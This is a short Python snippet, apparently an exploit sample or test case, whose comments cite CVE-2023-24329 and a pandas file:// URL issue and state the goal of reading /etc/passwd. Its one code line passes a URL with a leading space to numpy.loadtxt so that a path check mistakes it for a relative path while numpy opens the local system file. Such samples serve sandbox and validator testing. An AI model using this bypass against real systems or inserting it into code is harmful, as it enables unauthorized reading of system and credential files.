# source: CVE-2023-24329 (urllib.parse strips leading C0/space; bypasses scheme blocklists) + pandas-dev/pandas#970 (readers accept file:// URLs); numpy lib/_datasource.py urlopen cache
# family: URL with leading whitespace/control char: check treats literal as relative path, pandas is_url() sees file:// (numpy DataSource)
# goal: read /etc/passwd
import numpy as np
print(np.loadtxt(" file://localhost/etc/passwd", dtype=str, delimiter=";", comments=None))
